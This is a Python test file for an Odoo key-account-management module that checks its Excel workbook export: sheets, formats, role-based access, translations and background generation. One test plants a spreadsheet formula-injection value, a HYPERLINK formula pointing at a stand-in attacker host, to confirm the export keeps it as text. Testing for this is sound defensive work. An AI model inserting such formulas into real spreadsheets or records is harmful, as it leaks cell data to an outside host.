import io
from datetime import date

import openpyxl
from freezegun import freeze_time

from odoo.exceptions import UserError, ValidationError
from odoo.tests import tagged
from odoo.tools import file_path

from .common_retention import KamRetentionCommon

SHEETS = ["Accounts", "Groups", "Contracts", "Projects", "Work Orders & SLA", "Retention",
          "Billing by Service", "Billing by Region", "KPIs by Manager", "Targets", "Scorecards",
          "Opportunities", "Seed Checks"]


@tagged('post_install', '-at_install')
class TestManagementWorkbook(KamRetentionCommon):
    """The xlsx workbook opened with openpyxl: sheets, headers, rows,
    formats, the chart, access and empty selections."""

    def setUp(self):
        super().setUp()
        self.startPatcher(freeze_time(date(2026, 11, 20)))
        self.contract = self.env['kam.contract'].create({
            'title': "专线", 'partner_id': self.group_a.id, 'date_start': date(2026, 1, 1),
            'date_end': date(2026, 12, 31), 'amount': 12000})
        self.contract.action_confirm()
        self.contract_b = self.env['kam.contract'].create({
            'title': "物流专线", 'partner_id': self.group_b.id, 'date_start': date(2026, 1, 1),
            'date_end': date(2028, 12, 31), 'amount': 5000})
        self.contract_b.action_confirm()
        self.env['kam.kpi.snapshot']._kam_compute_month(date(2026, 10, 1))
        self.env['kam.kpi.snapshot']._kam_compute_month(date(2026, 11, 1))

    def _workbook(self, user, **vals):
        wizard = self.env['kam.export.wizard'].with_user(user).create(dict({
            'date_from': date(2026, 1, 1), 'date_to': date(2026, 11, 20)}, **vals))
        return openpyxl.load_workbook(io.BytesIO(wizard._kam_workbook()))

    def _column(self, sheet, index=0):
        return [row[index] for row in sheet.iter_rows(min_row=2, values_only=True)]

    def test_manager_workbook(self):
        self.group_a.write({'kam_customer_since': date(2008, 6, 18), 'city': " 杭州 & <西湖>"})
        book = self._workbook(self.user_kam_manager)
        self.assertEqual(book.sheetnames, SHEETS)
        accounts = book["Accounts"]
        self.assertEqual([c.value for c in accounts[1]][:3], ["Account", "Group Customer", "Tier"])
        self.assertEqual(accounts.freeze_panes, "A2")
        self.assertTrue(accounts.auto_filter.ref)
        names = self._column(accounts)
        self.assertEqual(sorted(names), sorted([self.group_a.name, self.sub_a.name, self.group_b.name]))
        row = next(r for r in accounts.iter_rows(min_row=2) if r[0].value == self.sub_a.name)
        self.assertEqual((row[1].value, row[2].value), (self.group_a.name, "A"))
        revenue = next(r for r in accounts.iter_rows(min_row=2) if r[0].value == self.group_a.name)[6]
        self.assertEqual(revenue.value, 50000)
        self.assertIn("¥", revenue.number_format)
        row_a = next(r for r in accounts.iter_rows(min_row=2) if r[0].value == self.group_a.name)
        self.assertEqual(row_a[11].value.date(), date(2008, 6, 18))
        self.assertEqual(row_a[12].value, " 杭州 & <西湖>")
        contracts = book["Contracts"]
        rows = {r[0].value: r for r in contracts.iter_rows(min_row=2)}
        self.assertEqual(set(rows), {self.contract.name, self.contract_b.name})
        # the contract ending within 90 days is highlighted, the other not
        self.assertEqual(rows[self.contract.name][5].fill.fgColor.rgb[-6:], "FFE0B2")
        self.assertNotEqual((rows[self.contract_b.name][5].fill.fgColor.rgb or '')[-6:], "FFE0B2")
        kpis = book["KPIs by Manager"]
        self.assertEqual(len(self._column(kpis)), self.env['kam.kpi.snapshot'].search_count([]))
        self.assertEqual(len(kpis._charts), 1)
        groups = book["Groups"]
        self.assertIn(self.group_a.name, self._column(groups))

    def test_text_stays_text(self):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
        self.group_b.write({'name': formula, 'city': "+1-2"})
        book = self._workbook(self.user_kam_manager)
        row = next(r for r in book["Accounts"].iter_rows(min_row=2) if r[0].value == formula)
        self.assertEqual((row[0].data_type, row[12].data_type, row[12].value), ('s', 's', "+1-2"))
        cells = [r[2] for r in book["Contracts"].iter_rows(min_row=2) if r[2].value == formula]
        self.assertEqual([cell.data_type for cell in cells], ['s'])
        formulas = [cell.coordinate for sheet in book for r in sheet.iter_rows() for cell in r
                    if cell.data_type == 'f']
        self.assertFalse(formulas)
        # the member import template the product ships holds text and dates only
        template = openpyxl.load_workbook(file_path(
            'key_account_management/static/xls/kam_member_import_template.xlsx'))
        self.assertEqual({cell.data_type for r in template.active.iter_rows() for cell in r
                          if cell.value is not None}, {'s', 'd'})

    def test_users_workbook_holds_his_accounts_only(self):
        book = self._workbook(self.user_kam)
        self.assertEqual(sorted(self._column(book["Accounts"])), sorted([self.group_a.name, self.sub_a.name]))
        self.assertEqual(self._column(book["Contracts"]), [self.contract.name])
        self.assertEqual({r for r in self._column(book["KPIs by Manager"], 1)}, {self.user_kam.name})

    def test_empty_selection_and_bad_periods(self):
        book = self._workbook(self.user_kam_manager, tier_ids=[(6, 0, self.tier_d.ids)])
        self.assertEqual(book.sheetnames, SHEETS)
        # the seed's checks are the company's as a whole, whatever the selection
        for name in SHEETS[:-1]:
            self.assertEqual(book[name]["A2"].value, "No data for this selection.", name)
        self.assertEqual(book["Seed Checks"]["B2"].value, "Tier Split")
        with self.assertRaisesText(ValidationError, "ends before it starts"):
            self.env['kam.export.wizard'].create({'date_from': date(2026, 6, 1), 'date_to': date(2026, 5, 1)})
        with self.assertRaisesText(ValidationError, "starts in the future"):
            self.env['kam.export.wizard'].create({'date_from': date(2027, 1, 1), 'date_to': date(2027, 2, 1)})

    def test_download_and_monthly_mail(self):
        action = self.env['kam.export.wizard'].with_user(self.user_kam).create({
            'date_from': date(2026, 1, 1), 'date_to': date(2026, 11, 20)}).action_export()
        self.assertEqual(action['type'], 'ir.actions.act_url')
        attachment = self.env['ir.attachment'].browse(int(action['url'].split('/')[3].split('?')[0]))
        self.assertTrue(openpyxl.load_workbook(io.BytesIO(attachment.raw)))
        self.company.kam_workbook_user_ids = self.user_kam_manager
        with self._cron_commits():
            self.env['kam.export.wizard']._cron_kam_mail_workbook()
        mail = self.env['mail.mail'].search([('email_to', 'like', self.user_kam_manager.email)])
        self.assertEqual(len(mail), 1)
        with self._cron_commits():
            self.env['kam.export.wizard']._cron_kam_mail_workbook()
        self.assertEqual(self.env['mail.mail'].search_count(
            [('email_to', 'like', self.user_kam_manager.email)]), 1, "a rerun sends nothing twice")
        self.assertIn("2026-10-01", mail.subject)
        self.assertTrue(mail.attachment_ids.name.endswith(".xlsx"))

    def test_targets_sheet(self):
        self.env['kam.target'].search([]).unlink()
        Target = self.env['kam.target']
        province = Target.create({'kpi': 'revenue', 'level': 'company', 'period_type': 'year',
                                  'date_start': date(2026, 1, 1), 'target_value': 900})
        mine = Target.create({'kpi': 'revenue', 'level': 'user', 'user_id': self.user_kam.id,
                              'period_type': 'year', 'date_start': date(2026, 1, 1),
                              'target_value': 500})
        Target.create({'kpi': 'revenue', 'level': 'user', 'user_id': self.user_kam.id,
                       'period_type': 'year', 'date_start': date(2025, 1, 1), 'target_value': 1})
        sheet = self._workbook(self.user_kam_manager)["Targets"]
        self.assertEqual([c.value for c in sheet[1]][:4], ["KPI", "Start", "End", "Level"])
        self.assertEqual(self._column(sheet, 4), [province.unit_name, self.user_kam.name])
        self.assertEqual(self._column(sheet, 6), [900, 500])
        # an account manager's workbook: his own target only
        sheet = self._workbook(self.user_kam)["Targets"]
        self.assertEqual(self._column(sheet, 6), [mine.target_value])

    def test_workbook_in_the_users_language(self):
        self.env['res.lang']._activate_lang('zh_CN')
        self.env['ir.module.module']._load_module_terms(['key_account_management'], ['zh_CN'],
                                                        overwrite=True)
        self.user_kam_manager.lang = 'zh_CN'
        book = self._workbook(self.user_kam_manager, tier_ids=[(6, 0, self.tier_d.ids)])
        self.assertEqual(
            [book.sheetnames[i] for i in (0, 7, 8, 9, -1)],
            ["客户", "按区域出账", "客户经理 KPI", "目标", "考核基准核查"])
        self.assertEqual(book["客户"]["A2"].value, "所选范围内没有数据。")

    # ------------------------------------------------------------
    # Large workbooks: made in the background, with progress
    # ------------------------------------------------------------

    def _ask_large(self, user):
        self.env['ir.config_parameter'].set_param(
            'key_account_management.workbook_background_accounts', 1)
        wizard = self.env['kam.export.wizard'].with_user(user).create({
            'date_from': date(2026, 1, 1), 'date_to': date(2026, 11, 20)})
        return wizard, wizard.action_export()

    def _notifications(self, user):
        return self.env['mail.message'].search([
            ('message_type', '=', 'user_notification'), ('partner_ids', 'in', user.partner_id.ids)])

    def test_large_workbook_is_made_in_the_background(self):
        cron = self.env.ref('key_account_management.ir_cron_kam_export_workbook')
        triggers = self.env['ir.cron.trigger'].search_count([('cron_id', '=', cron.id)])
        wizard, action = self._ask_large(self.user_kam_manager)
        self.assertEqual((action['type'], action['res_id']), ('ir.actions.act_window', wizard.id))
        self.assertEqual(wizard.state, 'running')
        self.assertEqual(self.env['ir.cron.trigger'].search_count([('cron_id', '=', cron.id)]), triggers + 1)
        with self.assertRaisesText(UserError, "not ready yet"):
            wizard.action_download()
        with self.assertRaisesText(UserError, "written by its job only"):
            wizard.write({'state': 'done'})
        with self._cron_commits():
            self.env['kam.export.wizard']._cron_kam_export_workbooks()
        wizard.invalidate_recordset()
        self.assertEqual((wizard.state, wizard.progress), ('done', 100))
        # the requester downloads it, and finds it in his inbox
        self.assertEqual(wizard.action_download()['url'],
                         f'/web/content/{wizard.attachment_id.id}?download=true')
        book = openpyxl.load_workbook(io.BytesIO(wizard.attachment_id.with_user(self.user_kam_manager).raw))
        self.assertEqual(book.sheetnames, SHEETS)
        self.assertEqual(len(self._column(book["Accounts"])), 3)
        message = self._notifications(self.user_kam_manager)
        self.assertEqual(len(message), 1)
        self.assertEqual(message.attachment_ids, wizard.attachment_id)
        # a rerun of the job makes and tells nothing twice
        with self._cron_commits():
            self.env['kam.export.wizard']._cron_kam_export_workbooks()
        self.assertEqual(len(self._notifications(self.user_kam_manager)), 1)
        self.assertEqual(self.env['ir.attachment'].search_count([
            ('res_model', '=', 'kam.export.wizard'), ('res_id', '=', wizard.id)]), 1)

    def test_progress_goes_forward_to_the_end(self):
        wizard = self.env['kam.export.wizard'].with_user(self.user_kam_manager).create({
            'date_from': date(2026, 1, 1), 'date_to': date(2026, 11, 20)})
        seen = []
        wizard._kam_workbook(progress=lambda percent, label: seen.append((percent, label)))
        percents = [percent for percent, _label in seen]
        self.assertEqual(percents, sorted(percents))
        self.assertEqual(seen[0], (50, "Accounts"), "the accounts, all in one batch here, are half")
        self.assertIn((56, "Contracts"), seen)
        self.assertEqual(seen[-1], (100, "Ready"))

    def test_a_failing_workbook_never_stops_the_others(self):
        failing, _action = self._ask_large(self.user_kam)
        good, _action = self._ask_large(self.user_kam_manager)
        # the first requester lost his Key Accounts rights in between
        self.user_kam.group_ids = [(3, self.env.ref('key_account_management.group_kam_user').id)]
        with self._cron_commits() as calls:
            self.env['kam.export.wizard']._cron_kam_export_workbooks()
        failing, good = failing.sudo(), good.sudo()
        (failing | good).invalidate_recordset()
        self.assertEqual((failing.state, good.state), ('failed', 'done'))
        self.assertTrue(failing.error)
        self.assertFalse(failing.attachment_id)
        self.assertIn("could not be made", self._notifications(self.user_kam).body)
        self.assertEqual(sum(processed for processed, _remaining in calls), 2)
